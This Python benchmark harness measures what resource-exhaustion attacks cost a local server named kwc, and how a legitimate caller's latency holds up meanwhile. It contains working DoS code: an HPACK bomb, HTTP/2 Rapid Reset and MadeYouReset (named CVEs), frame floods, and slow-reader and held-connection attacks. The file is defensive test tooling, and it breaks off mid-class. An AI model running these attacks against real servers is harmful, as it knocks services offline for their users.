#!/usr/bin/python3
"""The `attack` bench scenario (issue 29): what one unauthenticated
attacker connection, running flat out, costs kwc per byte it sends, and what
a legitimate caller's cached GET sees meanwhile.

Two halves in one file:

  bench_attack(args, R)   the scenario (run.py --only attack; R is run.py's
                          module, for its helpers: Kwc, certs, cpu_seconds...)
  attacker mode           `attack.py --attacker PATH --port P [--tls] ...`:
                          one attacker process, one path, --seconds long;
                          prints one JSON line with what it sent and how
                          each connection ended

The attacker is its own process so that its Python work never shares a GIL
with the legitimate caller's latency measurement. Frames and HPACK blocks
are made by hand (struct, a few lines of HPACK integer coding) rather than
with hyperframe/hpack objects, so that Python can produce bytes faster than
kwc consumes them; RawConn in tests/lib/h2client.py remains the tool for
single hostile frames in tests. The HPACK blocks made here are checked
against the hpack package's decoder once at start (--self-test).

Every loop is bounded in time (--seconds; connect and handshake timeouts)
and in count (connections per run, bytes queued ahead of the socket).
"""
import argparse
import datetime
import json
import os
import random
import select
import socket
import ssl
import struct
import subprocess
import tempfile
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME = 16384            # the largest frame every HTTP/2 server accepts
AHEAD = 256 * 1024       # app bytes queued ahead of the socket at most
MAX_CONNS = 200000       # connections one attacker run may open
T_DATA, T_HEADERS, T_PRIORITY, T_RST, T_SETTINGS, T_PING, T_GOAWAY, T_WINDOW, T_CONT = 0, 1, 2, 3, 4, 6, 7, 8, 9
F_END_STREAM, F_ACK, F_END_HEADERS = 0x1, 0x1, 0x4
H2_ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 4: "SETTINGS_TIMEOUT",
             5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
             10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}


# ---- HTTP/2 frames and HPACK by hand ----

def frame(t, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((t, flags)) + struct.pack(">I", sid) + payload


def hint(v, prefix, first=0):
    """An HPACK integer (RFC 7541 5.1) with its first byte's high bits."""
    m = (1 << prefix) - 1
    if v < m:
        return bytes((first | v,))
    out = [first | m]
    v -= m
    while v >= 128:
        out.append((v & 127) | 128)
        v >>= 7
    out.append(v)
    return bytes(out)


def hstr(b):
    return hint(len(b), 7) + b  # no Huffman


def lit(idx, val):
    """Literal without indexing, name from the static table (RFC 7541 6.2.2)."""
    return hint(idx, 4) + hstr(val)


def lit_new_indexed(name, val):
    """Literal with incremental indexing, a new name (6.2.1): into the dynamic table."""
    return b"\x40" + hstr(name) + hstr(val)


def lit_new(name, val):
    return b"\x00" + hstr(name) + hstr(val)


DYN_FIRST = b"\xbe"  # indexed field 62: the newest dynamic-table entry
BOMB_VALUE = b"a" * 4000  # ("x", 4000 x a): 4033 bytes of the 4096-byte table


def req_block(authority, path, method="GET", tls=False, token=None, extra=b""):
    b = (b"\x82" if method == "GET" else b"\x83") + (b"\x87" if tls else b"\x86") + lit(1, authority) + lit(4, path)
    if token is not None:
        b += lit(23, b"Bearer " + token)
    return b + extra


def field_size(name, value):
    return len(name) + len(value) + 32  # RFC 9113's header list size


def pseudo_size(authority, path, method="GET", tls=False):
    return (field_size(b":method", method.encode()) + field_size(b":scheme", b"https" if tls else b"http") +
            field_size(b":authority", authority) + field_size(b":path", path))


def headers_frames(sid, block, end_stream=True):
    """HEADERS + CONTINUATION frames of at most FRAME bytes carrying block."""
    parts = [block[i:i + FRAME] for i in range(0, len(block), FRAME)] or [b""]
    out = []
    for i, p in enumerate(parts):
        fl = (F_END_HEADERS if i == len(parts) - 1 else 0)
        if i == 0:
            out.append(frame(T_HEADERS, fl | (F_END_STREAM if end_stream else 0), sid, p))
        else:
            out.append(frame(T_CONT, fl, sid, p))
    return b"".join(out)


# ---- one connection: plain TCP or TLS through memory BIOs (wire bytes counted) ----

class Closed(Exception):
    pass


class Wire:
    """A non-blocking connection whose sent bytes are counted as they leave
    the socket: over TLS, the TLS records (handshake included), since the
    TLS layer is an ssl.SSLObject over memory BIOs."""

    def __init__(self, port, ctx, alpn=None, rcvbuf=None, timeout=10.0):
        self.sent = 0
        self.out = bytearray()
        self.eof = False
        self.alpn = None
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.settimeout(timeout)
        try:
            s.connect(("127.0.0.1", port))
        except OSError:
            s.close()
            raise
        self.sock = s
        self.tls = None
        if ctx:
            self.inc, self.outg = ssl.MemoryBIO(), ssl.MemoryBIO()
            self.tls = ctx.wrap_bio(self.inc, self.outg, server_hostname="127.0.0.1")
            end = time.monotonic() + timeout
            while True:
                try:
                    self.tls.do_handshake()
                    break
                except ssl.SSLWantReadError:
                    self._push_tls_blocking()
                    if time.monotonic() > end:
                        self.close()
                        raise TimeoutError("TLS handshake")
                    try:
                        d = s.recv(65536)
                    except OSError:
                        d = b""
                    if not d:
                        self.close()
                        raise Closed("closed during the TLS handshake")
                    self.inc.write(d)
            self._push_tls_blocking()
            self.alpn = self.tls.selected_alpn_protocol()
        s.setblocking(False)

    def _push_tls_blocking(self):
        d = self.outg.read()
        if d:
            self.sock.sendall(d)
            self.sent += len(d)

    def fileno(self):
        return self.sock.fileno()

    def queue(self, data):
        if self.tls:
            self.tls.write(data)
            self.out += self.outg.read()
        else:
            self.out += data

    def pending(self):
        return len(self.out)

    def flush(self):
        """Send what the socket takes now; raises Closed when the peer is gone."""
        while self.out:
            try:
                n = self.sock.send(self.out[:1 << 20])
            except (BlockingIOError, InterruptedError):
                return
            except OSError as e:
                raise Closed(type(e).__name__)
            if n <= 0:
                return
            self.sent += n
            del self.out[:n]

    def read(self):
        """Application bytes the socket has now (b"" if none); raises Closed at EOF."""
        try:
            d = self.sock.recv(1 << 20)
        except (BlockingIOError, InterruptedError):
            return b""
        except OSError as e:
            raise Closed(type(e).__name__)
        if not d:
            raise Closed("EOF")
        if not self.tls:
            return d
        self.inc.write(d)
        out = bytearray()
        while True:
            try:
                out += self.tls.read(1 << 20)
            except ssl.SSLWantReadError:
                break
            except (ssl.SSLZeroReturnError, ssl.SSLEOFError):
                raise Closed("TLS close")
            except ssl.SSLError as e:
                raise Closed("TLS " + str(e)[:40])
        pend = self.outg.read()  # a TLS 1.3 key update or alert
        if pend:
            self.out += pend
        return bytes(out)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


# ---- the attacks ----
#
# An attack makes a connection's bytes: start(w) queues the first ones,
# more(w) the next batch (None: nothing more for now), on_data(w, b) reads
# what kwc sent. w.done = True asks the engine to close and reconnect;
# w.ended = "..." records why kwc ended the connection.

class Attack:
    proto = "h1"
    conns = 1          # connections held at once
    hold = False       # the connections stay open to the end (memory paths)
    read = True        # the attacker reads what kwc sends

    def __init__(self, a):
        self.a = a
        self.tls = bool(a.tls)
        self.authority = ("127.0.0.1:%d" % a.port).encode()
        self.counts = {}
        self.tag = "%x" % random.getrandbits(40)
        self.n = 0

    def count(self, k, n=1):
        self.counts[k] = self.counts.get(k, 0) + n

    def token(self):
        self.n += 1
        return ("bogus-%s-%x" % (self.tag, self.n)).encode()

    def start(self, w):
        pass

    def more(self, w):
        return None

    def on_data(self, w, d):
        pass


class H1(Attack):
    """HTTP/1.1 keep-alive, pipelined: at most `window` requests sent and not
    yet answered (None: no bound, the attacker sends as fast as kwc reads)."""
    proto = "h1"
    batch = 16
    window = 64

    def start(self, w):
        w.tail = b""
        w.asked = w.answered = 0

    def request(self):
        raise NotImplementedError

    def more(self, w):
        n = self.batch
        if self.window is not None:
            n = min(n, self.window - (w.asked - w.answered))
            if n <= 0:
                return None
        w.asked += n
        return b"".join(self.request() for _ in range(n))

    def on_data(self, w, d):
        b = w.tail + d
        n = b.count(b"HTTP/1.1 ")
        w.answered += n
        if n:
            for code in (b"401", b"431", b"400", b"413", b"429", b"200"):
                c = b.count(b"HTTP/1.1 " + code)
                if c:
                    self.count(code.decode(), c)
        w.tail = b[-12:]


class H1NoCreds(H1):
    """Keep-alive, pipelined GETs with no credentials: each a 401."""

    def __init__(self, a):
        super().__init__(a)
        self.req = ("GET /api/v1/namespaces/default/pods/p HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % a.port).encode()

    def request(self):
        return self.req


class H1Pipeline(H1NoCreds):
    """Pipelined GETs with no credentials, no bound on the requests in
    flight: the attacker reads the 401s but sends as fast as kwc reads."""
    window = None


class H1Bogus(H1):
    """Pipelined GETs, each with a new bogus bearer token: a TokenReview
    (apisim: not authenticated), then 401."""

    def request(self):
        return (b"GET /api/v1/namespaces/default/pods/p HTTP/1.1\r\nHost: " + self.authority +
                b"\r\nAuthorization: Bearer " + self.token() + b"\r\n\r\n")


class H1LargeHead(H1):
    """Request heads just under --max-header-bytes (8 KiB header lines), no
    credentials: 401 each."""
    batch, window = 1, 2

    def __init__(self, a):
        super().__init__(a)
        line = b"X-Pad-%06d: " + b"v" * 8170 + b"\r\n"
        start = b"GET /api/v1/namespaces/default/pods/p HTTP/1.1\r\nHost: " + self.authority + b"\r\n"
        n = (a.max_header_bytes - len(start) - 1024) // len(line % 0)
        self.req = start + b"".join(line % i for i in range(n)) + b"\r\n"

    def request(self):
        return self.req


class H1HeldBody(H1):
    """POSTs with a large body and a token whose TokenReview hangs (apisim
    --hang-token-prefix); the body keeps coming as long as kwc reads it."""
    conns, hold, batch, window = 0, True, 1, None

    def __init__(self, a):
        super().__init__(a)
        self.conns = a.held_conns
        self.chunk = b"x" * 65536

    def start(self, w):
        super().start(w)
        w.queue(b"POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: " + self.authority +
                b"\r\nAuthorization: Bearer " + self.a.hang_prefix.encode() + self.token() +
                b"\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % (1 << 40))

    def more(self, w):
        return self.chunk


class H1Unread(H1):
    """Pipelined GETs with no credentials, never reading the 401s (a small
    receive buffer)."""
    conns, hold, read, window = 0, True, False, None

    def __init__(self, a):
        super().__init__(a)
        self.conns = a.held_conns
        self.req = H1NoCreds(a).req

    def request(self):
        return self.req


class H1SlowList(H1):
    """A caller with a valid token asks for the whole pod list (RV=0, from
    the cache) and reads nothing (4 KiB receive buffer)."""
    conns, hold, read = 0, True, False

    def __init__(self, a):
        super().__init__(a)
        self.conns = a.held_conns

    def start(self, w):
        super().start(w)
        w.queue(b"GET /api/v1/pods?resourceVersion=0 HTTP/1.1\r\nHost: " + self.authority +
                b"\r\nAuthorization: Bearer " + self.a.token.encode() + b"\r\n\r\n")

    def more(self, w):
        return None


class Idle(Attack):
    """Connections that say nothing (over TLS: after the handshake; HTTP/2:
    after the preface and SETTINGS)."""
    hold = True

    def __init__(self, a):
        super().__init__(a)
        self.conns = a.idle_conns
        self.proto = a.proto

    def start(self, w):
        if self.proto == "h2":
            w.queue(PREFACE + frame(T_SETTINGS, 0, 0))


class Handshake(Attack):
    """New connection, (TLS handshake,) close: over and over."""

    def __init__(self, a):
        super().__init__(a)
        self.proto = a.proto

    def start(self, w):
        w.done = True
        self.count("handshakes")


class H2(Attack):
    """HTTP/2 with prior knowledge or ALPN h2: the server's frames parsed
    (SETTINGS ACKed once, windows tracked, GOAWAY recorded)."""
    proto = "h2"
    settings = b""
    max_streams = 100  # streams in flight per connection, for the request paths

    def start(self, w):
        w.buf = b""
        w.sid = 1
        w.conn_win = 65535
        w.init_win = 65535
        w.win = {}
        w.goaway = None
        w.acked = False
        w.queue(PREFACE + frame(T_SETTINGS, 0, 0, self.settings))

    def next_sid(self, w):
        s = w.sid
        w.sid += 2
        return s

    def on_frame(self, w, t, fl, sid, p):
        pass

    def on_data(self, w, d):
        b = w.buf + d if w.buf else d
        i = 0
        while len(b) - i >= 9:
            n = int.from_bytes(b[i:i + 3], "big")
            if len(b) - i < 9 + n:
                break
            t, fl = b[i + 3], b[i + 4]
            sid = int.from_bytes(b[i + 5:i + 9], "big") & 0x7fffffff
            p = b[i + 9:i + 9 + n]
            i += 9 + n
            if t == T_SETTINGS and not fl & F_ACK:
                for j in range(0, len(p) - 5, 6):
                    k, v = struct.unpack(">HI", p[j:j + 6])
                    if k == 4:
                        for s in w.win:
                            w.win[s] += v - w.init_win
                        w.init_win = v
                if not w.acked:
                    w.queue(frame(T_SETTINGS, F_ACK, 0))
                    w.acked = True
            elif t == T_WINDOW:
                inc = int.from_bytes(p[:4], "big") & 0x7fffffff
                if sid == 0:
                    w.conn_win += inc
                elif sid in w.win:
                    w.win[sid] += inc
            elif t == T_GOAWAY:
                code = int.from_bytes(p[4:8], "big")
                if w.goaway is None or code:
                    w.goaway = H2_ERRORS.get(code, str(code))
                self.count("GOAWAY " + H2_ERRORS.get(code, str(code)))
                w.ended = "GOAWAY " + w.goaway
                self.on_goaway(w)
            elif t == T_RST:
                self.count("RST_STREAM " + H2_ERRORS.get(int.from_bytes(p[:4], "big"), "?"))
                w.win.pop(sid, None)
            elif t == T_HEADERS:
                self.count("responses")
            elif t == T_PING and not fl & F_ACK:
                w.queue(frame(T_PING, F_ACK, 0, p))
            self.on_frame(w, t, fl, sid, p)
        w.buf = b[i:]

    def on_goaway(self, w):
        w.done = True  # an attacker reconnects at once: streams past the GOAWAY cost kwc nothing


class H2Requests(H2):
    """Streams sent as fast as kwc takes them, up to max_streams per
    connection; kwc's GOAWAY (after the first 401 of an unauthenticated
    connection) ends the connection, the attacker reconnects."""

    def start(self, w):
        super().start(w)
        w.opened = 0

    def stream(self, w, sid):
        raise NotImplementedError

    def more(self, w):
        if w.opened >= self.max_streams or w.goaway:
            return None
        out = []
        for _ in range(min(8, self.max_streams - w.opened)):
            out.append(self.stream(w, self.next_sid(w)))
            w.opened += 1
        return b"".join(out)


class H2NoCreds(H2Requests):
    """GET without credentials: 401 (and kwc's GOAWAY: one request per
    unauthenticated HTTP/2 connection)."""

    def stream(self, w, sid):
        return frame(T_HEADERS, F_END_HEADERS | F_END_STREAM, sid,
                     req_block(self.authority, b"/api/v1/namespaces/default/pods/p", tls=self.tls))


class H2Bogus(H2Requests):
    """GETs, each with a new bogus bearer token (a TokenReview, then 401)."""

    def stream(self, w, sid):
        return frame(T_HEADERS, F_END_HEADERS | F_END_STREAM, sid,
                     req_block(self.authority, b"/api/v1/namespaces/default/pods/p", tls=self.tls,
                               token=self.token()))


class H2LargeHead(H2Requests):
    """Header lists just under --max-header-bytes as literal fields (4 KiB
    values, not indexed), HEADERS + CONTINUATION, no credentials."""

    def __init__(self, a):
        super().__init__(a)
        path = b"/api/v1/namespaces/default/pods/p"
        room = a.max_header_bytes - pseudo_size(self.authority, path, tls=self.tls) - 512
        val = b"v" * 4000
        fields = []
        i = 0
        while room >= field_size(b"x-pad-000000", val):
            fields.append(lit_new(b"x-pad-%06d" % i, val))
            room -= field_size(b"x-pad-000000", val)
            i += 1
        self.block = req_block(self.authority, path, tls=self.tls, extra=b"".join(fields))

    def stream(self, w, sid):
        return headers_frames(sid, self.block)


class H2HpackWithin(H2Requests):
    """HPACK amplification within the limit: ("x", 4000 bytes) put in the
    dynamic table once per connection, then on each stream a block of
    1-byte references to it decoding to just under --max-header-bytes
    (~260 bytes on the wire for ~1 MiB decoded). No credentials."""

    def __init__(self, a):
        super().__init__(a)
        self.path = b"/api/v1/namespaces/default/pods/p"
        room = a.max_header_bytes - pseudo_size(self.authority, self.path, tls=self.tls) - 64
        self.refs = room // field_size(b"x", BOMB_VALUE)

    def stream(self, w, sid):
        if w.opened == 0:
            extra = lit_new_indexed(b"x", BOMB_VALUE) + DYN_FIRST * (self.refs - 1)
        else:
            extra = DYN_FIRST * self.refs
        return headers_frames(sid, req_block(self.authority, self.path, tls=self.tls, extra=extra))


class H2HpackBomb(H2Requests):
    """The HPACK bomb: ("x", 4000 bytes) into the dynamic table, then a
    header block of 1-byte references as long as the CONTINUATION limit
    lets it be (HEADERS + --bomb-frames - 1 CONTINUATION frames of 16 KiB:
    ~4 MB on the wire, ~16 GB decoded), again on each new stream."""

    def __init__(self, a):
        super().__init__(a)
        self.nframes = a.bomb_frames
        self.head = req_block(self.authority, b"/api/v1/namespaces/default/pods/p", tls=self.tls)

    def stream(self, w, sid):
        first = self.head + (lit_new_indexed(b"x", BOMB_VALUE) if w.opened == 0 else b"")
        first += DYN_FIRST * (FRAME - len(first))
        out = [frame(T_HEADERS, F_END_STREAM, sid, first)]
        cont = DYN_FIRST * FRAME
        for i in range(1, self.nframes):
            out.append(frame(T_CONT, F_END_HEADERS if i == self.nframes - 1 else 0, sid, cont))
        return b"".join(out)

    def more(self, w):
        if w.goaway or w.opened >= self.max_streams:
            return None
        out = self.stream(w, self.next_sid(w))
        w.opened += 1
        return out


class H2MadeYouReset(H2):
    """MadeYouReset (CVE-2025-8671): HEADERS (a new bogus token each, so
    that no 401 ends the connection first), then a WINDOW_UPDATE of 2^31-1
    on that stream, which overflows its window: nghttp2 resets the stream
    (FLOW_CONTROL_ERROR). Repeated without bound on the stream count."""

    def more(self, w):
        if w.goaway:
            return None
        out = []
        for _ in range(32):
            sid = self.next_sid(w)
            if sid > 0x7fffff00:
                w.done = True
                break
            out.append(frame(T_HEADERS, F_END_HEADERS | F_END_STREAM, sid,
                             req_block(self.authority, b"/api/v1/namespaces/default/pods/p", tls=self.tls,
                                       token=self.token())))
            out.append(frame(T_WINDOW, 0, sid, struct.pack(">I", 0x7fffffff)))
        return b"".join(out)


class H2RapidReset(H2):
    """Rapid reset (CVE-2023-44487): HEADERS (a new bogus token each) +
    RST_STREAM CANCEL pairs."""

    def more(self, w):
        if w.goaway:
            return None
        out = []
        for _ in range(32):
            sid = self.next_sid(w)
            out.append(frame(T_HEADERS, F_END_HEADERS | F_END_STREAM, sid,
                             req_block(self.authority, b"/api/v1/namespaces/default/pods/p", tls=self.tls,
                                       token=self.token())))
            out.append(frame(T_RST, 0, sid, struct.pack(">I", 8)))
        return b"".join(out)


class H2Flood(H2):
    """Connection-level frames back to back (the ACKs read as they come)."""
    unit = b""

    def more(self, w):
        return None if w.goaway else self.unit * 512


class H2Settings(H2Flood):
    unit = frame(T_SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))


class H2Ping(H2Flood):
    unit = frame(T_PING, 0, 0, b"12345678")


class H2Priority(H2Flood):
    """PRIORITY frames for idle streams (kwc sends SETTINGS_NO_RFC7540_PRIORITIES)."""

    def more(self, w):
        if w.goaway:
            return None
        out = []
        for _ in range(512):
            sid = self.next_sid(w)
            if sid > 0x7fffff00:
                w.sid = 1
            out.append(frame(T_PRIORITY, 0, sid, struct.pack(">IB", 0, 15)))
        return b"".join(out)


class H2Data(H2):
    """The HTTP/2 reference: one POST stream without credentials whose DATA
    kwc reads and discards (it answers 401 and gives the window back), sent
    as fast as the windows allow."""

    def start(self, w):
        super().start(w)
        w.stream = None

    def on_goaway(self, w):
        pass  # the GOAWAY after the 401 lets stream 1 go on: its DATA is what this path sends

    def more(self, w):
        out = []
        if w.stream is None or w.stream not in w.win:
            if w.stream is not None:
                w.done = True  # kwc ended the stream: a new connection, as for the other request paths
                return None
            w.stream = self.next_sid(w)
            w.win[w.stream] = w.init_win
            out.append(frame(T_HEADERS, F_END_HEADERS, w.stream,
                             req_block(self.authority, b"/api/v1/namespaces/default/configmaps", method="POST",
                                       tls=self.tls)))
        n = min(FRAME, w.conn_win, w.win[w.stream])
        chunk = b"d" * FRAME
        while n > 0 and len(out) < 64:
            out.append(frame(T_DATA, 0, w.stream, chunk[:n]))
            w.conn_win -= n
            w.win[w.stream] -= n
            n = min(FRAME, w.conn_win, w.win[w.stream])
        return b"".join(out) or None


class H2HeldBody(H2):
    """max_streams POST streams per connection, each with a token whose
    TokenReview hangs, each sending DATA as far as its window lets it."""
    hold = True

    def __init__(self, a):
        super().__init__(a)
        self.conns = a.held_conns

    def start(self, w):
        super().start(w)
        w.opened = 0

    def more(self, w):
        if w.goaway:
            return None
        out = []
        if w.opened < self.max_streams:
            for _ in range(min(16, self.max_streams - w.opened)):
                sid = self.next_sid(w)
                w.win[sid] = w.init_win
                out.append(frame(T_HEADERS, F_END_HEADERS, sid, req_block(
                    self.authority, b"/api/v1/namespaces/default/configmaps", method="POST", tls=self.tls,
                    token=self.a.hang_prefix.encode() + self.token())))
                w.opened += 1
        chunk = b"d" * FRAME
        for sid in list(w.win):
            while w.conn_win > 0 and w.win[sid] > 0 and len(out) < 256:
                n = min(FRAME, w.conn_win, w.win[sid])
                out.append(frame(T_DATA, 0, sid, chunk[:n]))
                w.conn_win -= n
                w.win[sid] -= n
        return b"".join(out) or None


class H2SlowList(H2):
    """A caller with a valid token asks for the whole pod list with windows
    opened wide (2^31-1), then reads nothing."""
    hold, read = True, False
    settings = struct.pack(">HI", 4, 0x7fffffff)

    def __init__(self, a):
        super().__init__(a)
        self.conns = a.held_conns

    def start(self, w):
        super().start(w)
        w.queue(frame(T_WINDOW, 0, 0, struct.pack(">I", 0x7fffffff - 65535)) +
                frame(T_HEADERS, F_END_HEADERS | F_END_STREAM, 1, req_block(
                    self.authority, b"/api/v1/pods?resourceVersion=0", tls=self.tls, token=self.a.token.encode())))


PATHS = {
    "h1-401": H1NoCreds, "h1-pipeline": H1Pipeline, "h1-bogus-token": H1Bogus, "h1-large-head": H1LargeHead, "h1-held-body": H1HeldBody,
    "h1-unread-401": H1Unread, "h1-slow-list": H1SlowList,
    "h2-data": H2Data, "h2-401": H2NoCreds, "h2-bogus-token": H2Bogus, "h2-large-head": H2LargeHead,
    "h2-hpack-within": H2HpackWithin, "h2-hpack-bomb": H2HpackBomb, "h2-madeyoureset": H2MadeYouReset,
    "h2-rapid-reset": H2RapidReset, "h2-settings": H2Settings, "h2-ping": H2Ping, "h2-priority": H2Priority,
    "h2-held-body": H2HeldBody, "h2-slow-list": H2SlowList,
    "idle": Idle, "handshake": Handshake,
}



# ---- the scenario (run.py --only attack) ----
#
# (path, proto, transports, fresh): fresh = a kwc of its own (the memory
# paths: their RSS is measured from a kwc no other path has touched).
REF = "h1-401"
ROWS = [
    ("h1-401", "h1", ("plain", "tls"), False),
    ("h1-large-head", "h1", ("plain", "tls"), False),
    ("h1-bogus-token", "h1", ("plain", "tls"), False),
    ("h2-data", "h2", ("plain", "tls"), False),
    ("h2-401", "h2", ("plain", "tls"), False),
    ("h2-large-head", "h2", ("plain", "tls"), False),
    ("h2-hpack-within", "h2", ("plain", "tls"), False),
    ("h2-hpack-bomb", "h2", ("plain", "tls"), False),
    ("h2-madeyoureset", "h2", ("plain", "tls"), False),
    ("h2-rapid-reset", "h2", ("plain", "tls"), False),
    ("h2-settings", "h2", ("plain", "tls"), False),
    ("h2-ping", "h2", ("plain", "tls"), False),
    ("h2-priority", "h2", ("plain", "tls"), False),
    ("h2-bogus-token", "h2", ("plain", "tls"), False),
    ("handshake", "-", ("plain",), False),
    ("handshake", "h1", ("tls",), False),
    ("handshake", "h2", ("tls",), False),
    ("h1-pipeline", "h1", ("plain", "tls"), True),
    ("h1-held-body", "h1", ("plain", "tls"), True),
    ("h2-held-body", "h2", ("plain", "tls"), True),
    ("h1-unread-401", "h1", ("plain", "tls"), True),
    ("h1-slow-list", "h1", ("plain", "tls"), True),
    ("h2-slow-list", "h2", ("plain", "tls"), True),
    ("idle", "h1", ("plain", "tls"), True),
    ("idle", "h2", ("plain", "tls"), True),
]
SIZES = {"full": {"held": 10, "idle": 500}, "small": {"held": 4, "idle": 100}}
PODS = 2000          # ~6 MB RV=0 list for the slow readers
HANG = "hang-"       # apisim --hang-token-prefix
MAX_HEADER_BYTES = 1 << 20  # kwc's default, passed explicitly so that the attacker and kwc agree
PYTHON = "/usr/bin/python3"  # Debian's: python3-h2/hpack for --self-test

METHOD = """\
# attack: what one unauthenticated attacker connection costs kwc (issue 29)

Method. `bench/run.py --only attack` (bench/attack.py) starts apisim with an
RBAC policy (`--policy`, `--anonymous-auth false`, `--hang-token-prefix
hang-`: those TokenReviews never answer) and kwc with `--auth delegated`,
`--max-header-bytes 1048576`, once in plaintext and once over TLS (HTTP/1.1
and HTTP/2 on each port: prior knowledge in plaintext, ALPN over TLS). For
each path ONE attacker connection (a separate Python process, frames and
HPACK made by hand) runs flat out for `--duration` seconds and reconnects
whenever kwc ends its connection; the memory paths (marked "held") open N
connections and hold them, and report RSS per connection. Attacker bytes are
what it wrote to the socket (over TLS the TLS records, handshakes included).
kwc CPU is utime+stime from /proc/<pid>/stat from before the attack until
kwc is idle again after it (what it still had queued is billed to the path),
less the idle rate measured with the legitimate caller alone. ns/byte = that
CPU / attacker bytes; "x baseline" divides by the reference path's ns/byte
on the same transport: **h1-401** (HTTP/1.1 keep-alive GETs without
credentials, at most 64 pipelined and unanswered, each answered 401) is the
reference for every path, HTTP/1.1 and HTTP/2 alike: it is the cheapest
complete request kwc serves an unauthenticated caller, and HTTP/2 has no
like-for-like (kwc sends GOAWAY after an unauthenticated HTTP/2
connection's first 401, so h2-401 includes a connection per request).
h2-data (DATA on one POST stream that kwc reads and discards after its 401)
is listed as the floor of receiving bytes at all. Meanwhile a legitimate
caller (a bearer token apisim accepts, reviewed once and cached) GETs one
pod from the cache (`?resourceVersion=0`) on an HTTP/1.1 keep-alive
connection of the same transport every 10 ms, one at a time: p50 / p99
(max) ms. RSS: kwc's RssAnon, peak during the attack minus before (and what
was still held after kwc went idle). "kwc ends it?": how kwc ended the
attacker's connections (GOAWAY code, or a close without one), how many
times, and the median bytes the attacker had sent on a connection by then.
Target (issue 29): no path above 10x baseline; the legitimate p99 under
50 ms on a 2-core machine. The attacker is Python: where "kwc CPU s" stays
well under the run's seconds, kwc was not the bottleneck (apisim's reviews
or the attacker's own CPU were), and the ns/byte still holds.

Paths (N = 10 connections for the held ones, 500 idle; --small 4 and 100):
- h1-401 (the reference): HTTP/1.1 keep-alive GETs without credentials, at
  most 64 pipelined and unanswered; each answered 401.
- h1-large-head: GETs whose heads are just under --max-header-bytes (8 KiB
  header lines), at most 2 in flight; 401 each.
- h1-bogus-token: as h1-401, each GET with a new bearer token: a
  TokenReview (apisim: not authenticated), then 401.
- h1-pipeline: as h1-401 with no bound on requests in flight: the attacker
  reads the 401s but sends as fast as kwc reads.
- h2-data: a POST stream without credentials, DATA as fast as the windows
  allow; kwc answers 401 and GOAWAY, reads and discards the DATA (windows
  given back) until it resets the stream (~1 MiB); then a new connection.
- h2-401: 100 GET streams without credentials per connection; kwc answers
  the first with 401 and GOAWAY; a new connection.
- h2-large-head: per stream a header list just under --max-header-bytes of
  4,000-byte literal (not indexed) values, HEADERS + CONTINUATION; 401.
- h2-hpack-within: ("x", 4,000 bytes) into the HPACK dynamic table once per
  connection, then on each of up to 100 streams a block of ~259 1-byte
  references to it (~300 bytes on the wire, just under 1 MiB decoded).
- h2-hpack-bomb: the same entry, then per stream a header block of 1-byte
  references in HEADERS + 259 CONTINUATION frames (~4.26 MB on the wire,
  ~17 GB decoded), stream after stream on one connection.
- h2-madeyoureset: HEADERS (a new bogus token each: no 401 ends the
  connection first) + WINDOW_UPDATE 2^31-1 on that stream, which nghttp2
  answers with RST_STREAM FLOW_CONTROL_ERROR (CVE-2025-8671).
- h2-rapid-reset: HEADERS (a new bogus token each) + RST_STREAM CANCEL.
- h2-settings, h2-ping, h2-priority: SETTINGS (one setting), PING, or
  PRIORITY (idle streams) frames back to back, kwc's ACKs read.
- h2-bogus-token: 100 GET streams per connection, each a new bogus token.
- handshake: plaintext, TCP connect and close (no bytes: CPU per
  connection); TLS, connect, a full handshake (ALPN http/1.1 or h2, no
  resumption), close.
- h1-held-body (held): N connections, each a POST (Content-Length 2^40) with
  a token whose TokenReview hangs, the body sent as fast as kwc reads it.
- h2-held-body (held): N connections of 100 POST streams each, tokens whose
  reviews hang, DATA up to each stream's window.
- h1-unread-401 (held): N connections pipelining GETs without credentials
  and never reading (4 KiB receive buffer).
- h1-slow-list, h2-slow-list (held): N callers with a valid token ask for
  the RV=0 list of 2,000 pods (~12 MB) and read nothing (HTTP/1.1: 4 KiB
  receive buffer; HTTP/2: windows opened to 2^31-1). No unauthenticated
  caller gets a list; this is the authenticated slow reader, per
  connection. kwc's RSS does not count the kernel's socket buffers.
- idle (held): N connections that send nothing after connecting (TLS:
  after the handshake; HTTP/2: after the preface and SETTINGS).
"""


class Legit:
    """The legitimate caller: GET path every `every` s on one keep-alive
    HTTP/1.1 connection (TLS when kwc serves TLS), a bearer token apisim
    accepts; reconnects after a failure. Latency of each success, kind of
    each failure."""

    def __init__(self, port, ca, token, path, every=0.01):
        import threading
        self.port, self.ca, self.token, self.path, self.every = port, ca, token, path, every
        self.lat, self.fail = [], {}
        self.conn = None
        self.stop_ev = threading.Event()
        self.th = threading.Thread(target=self._run, daemon=True)

    def _connection(self):
        import http.client
        if self.ca:
            return http.client.HTTPSConnection("127.0.0.1", self.port, timeout=5,
                                               context=ssl.create_default_context(cafile=self.ca))
        return http.client.HTTPConnection("127.0.0.1", self.port, timeout=5)

    def once(self):
        if self.conn is None:
            self.conn = self._connection()
        try:
            self.conn.request("GET", self.path, headers={"Authorization": "Bearer " + self.token})
            r = self.conn.getresponse()
            r.read()
            return None if r.status == 200 else "HTTP %d" % r.status
        except Exception as e:  # every failure is a result here
            self.conn.close()
            self.conn = None
            return type(e).__name__

    def start(self):
        self.th.start()
        return self

    def _run(self):
        while not self.stop_ev.is_set():
            t0 = time.monotonic()
            err = self.once()
            if err:
                self.fail[err] = self.fail.get(err, 0) + 1
            else:
